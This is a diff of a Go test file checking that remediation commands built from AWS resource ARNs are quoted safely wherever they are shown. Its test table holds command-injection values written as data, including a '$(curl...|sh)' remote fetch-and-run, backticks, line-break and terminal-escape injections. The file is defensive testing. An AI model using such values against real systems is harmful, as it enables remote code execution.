@@ -74,7 +74,7 @@ func shown(t *testing.T, r *run.Run) map[string]string {
 		t.Fatal(err)
 	}
 	return map[string]string{
-		"note": between(t, hub.Note(outcome(r)), "To do: ", "\n"), "mail": between(t, mail, "What to do:\n", "\n"),
+		"note": between(t, hub.Note(outcome(r)), "To do: ", "\n"), "mail": between(t, mail, "What to do:\n  ", "\n"),
 		"chat": strings.Trim(message.Content.NextSteps[0], "`"), "events": event.ToDo,
 	}
 }
@@ -83,14 +83,14 @@ func shown(t *testing.T, r *run.Run) map[string]string {
 // command that people paste is about that resource, or shows the run. It never
 // does anything else, and never is a part of a command.
 func TestCommandsArePasted(t *testing.T) {
-	const user, short = "arn:aws:iam::222222222222:user/", "the id is not shown whole"
+	const user = "arn:aws:iam::222222222222:user/"
 	tests := map[string]struct {
 		id   string
 		show map[string]string // where the run is shown instead, and why
 	}{
 		"a bucket":       {"arn:aws:s3:::logs-eu", nil},
 		"a long path":    {user + strings.Repeat("abcdefgh/", 12) + "bob", map[string]string{"note": "170 characters"}},
-		"longer":         {user + strings.Repeat("abcdefgh/", 50) + "bob", everywhere(short)},
+		"longer":         {user + strings.Repeat("abcdefgh/", 50) + "bob", everywhere()},
 		"substitution":   {user + "$(touch${IFS}pwned)/bob", nil},
 		"pipe":           {user + "$(curl$IFS$19e.io|sh)/bob", nil},
 		"backticks":      {user + "`touch pwned`/bob", map[string]string{"chat": "they end the code there"}},
@@ -106,10 +106,10 @@ func TestCommandsArePasted(t *testing.T) {
 		"pattern":        {user + "[a-z]*?/{a,b}", nil},
 		"underscores":    {user + "_a_b_", nil},
 		"spaces":         {user + "a b", nil},
-		"two spaces":     {user + "a  b", everywhere(short)},
-		"line break":     {user + "a\ntouch pwned\n", everywhere(short)},
-		"escape":         {user + "\x1b[2J\u009b;touch pwned", everywhere(short)},
-		"bidi":           {user + "\u202Ebob", everywhere(short)},
+		"two spaces":     {user + "a  b", everywhere()},
+		"line break":     {user + "a\ntouch pwned\n", everywhere()},
+		"escape":         {user + "\x1b[2J\u009b;touch pwned", everywhere()},
+		"bidi":           {user + "\u202Ebob", everywhere()},
 		"letters":        {user + "größe/価格", nil},
 		"a web site":     {"arn:aws:s3:::www.example.org", map[string]string{"mail": "a mail program makes a link of it"}},
 		"wakes everyone": {user + "@channel", map[string]string{"chat": "a mention is disarmed there"}},
@@ -132,6 +132,19 @@ func TestCommandsArePasted(t *testing.T) {
 	}
 }
 
-func everywhere(why string) map[string]string {
+// TestPlainCommandsArePlain: what needs no quotes has none.
+func TestPlainCommandsArePlain(t *testing.T) {
+	r := &run.Run{ID: "r1", Status: run.StatusAwaitingApproval, Key: run.Key{
+		Control: "S3.8", Account: "222222222222", Resource: "arn:aws:s3:::logs-eu",
+	}}
+	for where, command := range shown(t, r) {
+		if command != "salve apply S3.8 arn:aws:s3:::logs-eu --account 222222222222 --yes" {
+			t.Errorf("the %s says %s", where, command)
+		}
+	}
+}
+
+func everywhere() map[string]string {
+	const why = "the id is not shown whole"
 	return map[string]string{"note": why, "mail": why, "chat": why, "events": why}
 }
